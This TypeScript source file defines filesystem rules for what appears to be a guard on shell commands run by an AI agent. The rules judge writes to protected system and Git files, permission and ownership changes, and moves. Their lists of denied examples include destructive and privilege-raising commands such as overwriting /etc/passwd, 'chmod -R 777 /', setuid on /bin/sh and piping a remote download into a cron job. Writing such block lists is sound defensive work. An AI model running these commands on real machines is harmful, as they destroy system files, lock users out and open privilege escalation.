import { descriptionOf } from "../catalog/descriptions.ts";
import { argumentsOf, effectsOfKind, hasEffect } from "../catalog/effects.ts";
import { matched, stricter } from "../effects/match.ts";
import { mayWrite, writtenPaths } from "../effects/written-paths.ts";
import { type Arg, type Invocation, UNKNOWN } from "../model/invocation.ts";
import type { RightsEffect } from "../model/model.ts";
import { type Hit, ps, type Rule } from "../model/rule.ts";
import type { World } from "../model/world.ts";
import { isAddition } from "../places/additions.ts";
import { physicalPath, physicalPaths, whereLeads } from "../places/links.ts";
import { isOrdinary, type Location, placeOf } from "../places/location.ts";
import { isPersonalName } from "../places/project.ts";
import { absolutePath } from "../text/path.ts";

type Verdict = "ask" | "deny" | undefined;

/** Writing onto files that the system or a repository lives by. */
export const writeProtected: Rule = {
  id: "filesystem/write-protected",
  verdict: "ask",
  varies: true,
  programs: ["*"],
  reason: "would write to the operating system's files, or into Git's own files",
  instead: "write inside the project, or show the user the command to run",
  check: checkWrites,
  examples: () => ({
    denies: [
      "echo x > /etc/passwd",
      "echo corrupt > .git/objects/aa",
      "curl https://x.example | sudo tee /etc/cron.d/job",
      "cp tool /usr/local/bin/tool",
      "echo 1 > /proc/sysrq-trigger",
      "sed -i s/a/b/ /etc/hosts",
      ps("Set-Content C:\\Windows\\System32\\drivers\\etc\\hosts 'x'"),
    ],
    allows: [
      "echo x > /dev/null",
      "echo note > notes/objects/aa",
      "ls 2>&1 | tee build.log",
      "cp tool bin/tool",
      "echo 1 > /tmp/trigger",
      "sed s/a/b/ /etc/hosts",
      ps("Set-Content -Path out.txt -Value hi"),
    ],
  }),
};

function checkWrites(invocation: Invocation, world: World): Hit | undefined {
  if (!mayWrite(invocation)) return undefined;
  let verdict: Verdict;
  for (const target of writtenPaths(invocation)) {
    verdict = stricter(verdict, writeVerdict(target, invocation, world));
  }
  if (verdict === undefined) return undefined;
  const isOfApplication = writtenPaths(invocation).every(({ value }) =>
    isAddition(absolutePath(value, invocation.cwd)),
  );
  if (isOfApplication || isBuildCopied(invocation, world))
    return matched(invocation, { verdict: "ask", stake: "recoverable" });
  return matched(invocation, { verdict });
}

/** True where the project's own files are copied into the folder of one application, which the line names. */
function isBuildCopied(invocation: Invocation, world: World): boolean {
  if (!isCopy(invocation) || hasEffect(invocation, "delete")) return false;
  const targets = writtenPaths(invocation).map(({ value }) => absolutePath(value, invocation.cwd));
  if (!targets.every((path) => APPLICATION.test(path.replaceAll("\\", "/")))) return false;
  const sources = effectsOfKind(invocation, "read").map(({ path }) => path);
  return (
    sources.length > 0 &&
    sources.every((source) =>
      /^(?:project|output)$/.test(placeOf(source, invocation, world, "through")),
    )
  );
}

/** True for what puts files as they are somewhere else; a link is no copy. */
function isCopy(invocation: Invocation): boolean {
  const { copies, filters } = descriptionOf(invocation.program) ?? {};
  if (copies !== true || filters !== undefined) return false;
  return effectsOfKind(invocation, "link").every(({ from }) => from === "itself");
}

/** A file below the folder of one application; not what applications share, or Windows brings along. */
const APPLICATION =
  /^[a-z]:\/program files(?: \(x86\))?\/(?!common files|windows|modifiable)[^/*?\uFFFC]+\/(?!.*\.\.(?:\/|$))/i;

/** System files whose loss locks people out or keeps the machine from starting. */
const VITAL =
  /^\/(?:private)?\/?(?:etc\/(?:passwd|shadow|group|gshadow|sudoers|fstab|pam\.d|ssh\/sshd_config|ld\.so|crypttab)|boot|bin|sbin|lib|lib64|usr\/(?:bin|sbin|lib)|sys|proc\/sys|System)(?:[/.]|$)|^\/proc\/sysrq-trigger$|^[a-z]:\/(?:windows|program files(?: \(x86\))?|programdata|recovery|boot|efi)(?:\/|$)/i;

/** What a system writes down about itself: who came in, and what was done. */
const LOGS =
  /^\/(?:private\/)?var\/log\/(?:(?:syslog|messages|secure|auth|kern|daemon|system|install|maillog|mail|cron|boot|dmesg|faillog|lastlog|wtmp|btmp|utmp)(?:\.log)?|(?:audit|journal)\/.*)$/;

function writeVerdict(target: Arg, invocation: Invocation, world: World): Verdict {
  const path = absolutePath(target.value, invocation.cwd);
  if (isOrdinary(path, target, invocation, world)) return undefined;
  if (/^\/dev\//.test(path) || /^(?:nul|con)$/i.test(target.value)) return undefined;
  const place = placeOf(target, invocation, world, "written");
  return verdictIn(place, physicalPath(target, invocation.cwd, world), invocation);
}

function verdictIn(place: Location, path: string, invocation: Invocation): Verdict {
  if (place === "git") return gitVerdict(path);
  // A whole tree copied over the file system.
  if (place === "root" && path === "/" && isCopy(invocation)) return "deny";
  if (place !== "system" || path.includes(UNKNOWN)) return undefined;
  if (VITAL.test(path)) return "deny";
  if (LOGS.test(path)) return "ask";
  return /^\/(?:var\/(?:log|tmp|www)|run|opt|srv|mnt|media|Volumes|nix|private\/(?:tmp|var))(?:\/|$)/.test(
    path,
  )
    ? undefined
    : "ask";
}

function gitVerdict(path: string): Verdict {
  const inside = /\/\.git\/(.*)$/.exec(path)?.[1] ?? "";
  if (/^(?:objects|refs|HEAD|index|packed-refs|logs|config)(?:\/|$)/.test(inside)) return "deny";
  return inside.startsWith("hooks") ? "ask" : undefined;
}

/** Rights or owners of whole trees that are not the project's. */
export const changeRights: Rule = {
  id: "filesystem/change-rights",
  verdict: "deny",
  varies: true,
  programs:
    "chmod chown chgrp setfacl setcap chattr gchmod gchown icacls cacls takeown attrib set-acl".split(
      " ",
    ),
  reason: "would change the permissions or owners of files outside the project",
  instead: "change the permissions of the one file in the project that needs it",
  check: (invocation, world) => {
    const args = argumentsOf(invocation);
    if (args === undefined || args.has("--help", "--version")) return undefined;
    const changes = effectsOfKind(invocation, "rights");
    // On Windows what lies in a folder gets its rights as well.
    const recursive = args.has("-R") || descriptionOf(invocation.program)?.style !== undefined;
    if (!recursive && changes.some(({ raises }) => raises === true)) {
      return matched(invocation, {
        verdict: "ask",
        reason: "would let whoever runs a program run it as its owner or as root",
        instead: "show the user the command to run",
      });
    }
    let verdict: Verdict;
    let own = true;
    for (const change of changes) {
      const place = placeOf(change.path, invocation, world, "through");
      const found = rightsVerdict(place, recursive, change);
      if (found !== undefined) own &&= place.startsWith("project");
      verdict = stricter(verdict, found);
    }
    if (verdict === undefined) {
      return recursive && args.last("-H", "-L", "-P") === "-L" && changes.length > 0
        ? matched(invocation, {
            verdict: "ask",
            reason:
              "could change the permissions or owners of any file: it follows links, which may lead anywhere",
            instead: "leave out `-L`",
          })
        : undefined;
    }
    const reason = "would change the permissions or owners of all the project's files";
    return matched(invocation, own ? { verdict, reason } : { verdict });
  },
  examples: () => ({
    denies: [
      "chmod -R 777 /",
      "sudo chown -R me /usr",
      "chmod --rec 000 ~",
      "chmod -R 777 .",
      "chmod u+s /bin/sh",
      "setcap cap_setuid+ep tool",
      "chattr -i /etc/passwd",
      "setfacl -R -b /etc",
      "chown -RL nobody src",
      "chgrp -R -L staff .",
      ps("takeown /f C:\\Windows /r /d y"),
      ps("icacls C:\\ /grant Everyone:F /t"),
    ],
    allows: [
      "chmod +x script.sh",
      "setcap -r tool",
      "chown -R node:node dist",
      "chmod 600 ~/.ssh/id_ed25519",
      "chmod -R u+w src",
      "chattr +i notes.txt",
      "setfacl -R -m u:me:rX src",
      "chmod --help",
      "chown -RLP me src",
      "chgrp -R staff .",
      ps("icacls C:\\Windows"),
      ps("icacls build\\out.exe /grant me:F"),
    ],
  }),
};

function rightsVerdict(
  place: Location,
  recursive: boolean,
  { raises, wide }: RightsEffect,
): Verdict {
  if (place === "root" || place === "home") return recursive ? "deny" : "ask";
  if (place === "system") return recursive ? "deny" : "ask";
  if (raises === true) return "ask";
  if (!recursive) return undefined;
  if (place === "unknown" || place === "outside" || place === "personal") return "ask";
  return (place === "project-root" || place === "git") && wide === true ? "ask" : undefined;
}

/** Moving what others rely on away, or onto nothing. */
export const moveProtected: Rule = {
  id: "filesystem/move",
  verdict: "deny",
  varies: true,
  programs: ["*"],
  reason: "would move files that the system, the home folder or the repository needs",
  instead: "move files inside the project only",
  check: checkMove,
  examples: () => ({
    denies: [
      "mv /etc /tmp/etc",
      "mv ~ /tmp/home",
      "mv .git ../old",
      "mv src /dev/null",
      "mv ~/Documents /tmp/",
      "sudo mv /etc/fstab /dev/null",
      ps("Move-Item C:\\Users\\me D:\\old"),
    ],
    allows: [
      "mv a.txt b.txt",
      "mv src lib",
      "mv ~/Downloads/a.zip .",
      "mv /tmp/x .",
      "mv git-notes ../old.md",
      "sudo mv /opt/app/old.log /tmp",
      ps("Move-Item src\\a.ts src\\b.ts"),
    ],
  }),
};

function checkMove(invocation: Invocation, world: World): Hit | undefined {
  const sources = effectsOfKind(invocation, "delete").flatMap(({ extent, host, path }) =>
    extent === "moved" && host === "here" ? [path] : [],
  );
  if (sources.length === 0) return undefined;
  let verdict: Verdict;
  for (const source of sources) {
    const place = placeOf(source, invocation, world);
    if (/^(?:root|home|project-root|git)$/.test(place)) {
      verdict = stricter(verdict, place === "project-root" && source.glob ? "ask" : "deny");
    }
    // A folder that is in the home folder itself is somebody's, and what uses it finds it gone.
    if (place === "personal" && isHomeFolder(source, invocation, world)) {
      verdict = stricter(verdict, "ask");
    }
    if (place === "system" && !/^\/(?:var\/www|opt|srv|mnt|media)\/./.test(source.value)) {
      verdict = stricter(verdict, "deny");
    }
  }
  const toNothing = effectsOfKind(invocation, "write").some(
    ({ path }) => path.value === "/dev/null",
  );
  if (verdict === undefined && toNothing) {
    return matched(invocation, {
      verdict: "ask",
      reason: "would fail, or as root replace /dev/null with the file",
      instead: "delete the file by name",
    });
  }
  return verdict === undefined ? undefined : matched(invocation, { verdict });
}

/** `~/Documents` or `~/.config`, but neither a file with an extension nor a folder further down. */
function isHomeFolder(source: Arg, invocation: Invocation, world: World): boolean {
  const home = world.home;
  if (home === undefined || invocation.remote) return false;
  const value = source.value.replace(/^~(?=\/)/, home);
  const named = { ...source, value };
  for (const path of [
    absolutePath(value, invocation.cwd),
    ...physicalPaths(named, invocation.cwd, "itself", world),
  ]) {
    for (const folder of [home, whereLeads(home, world)]) {
      if (path.startsWith(`${folder}/`) && isPersonalName(path.slice(folder.length + 1))) {
        return true;
      }
    }
  }
  return false;
}
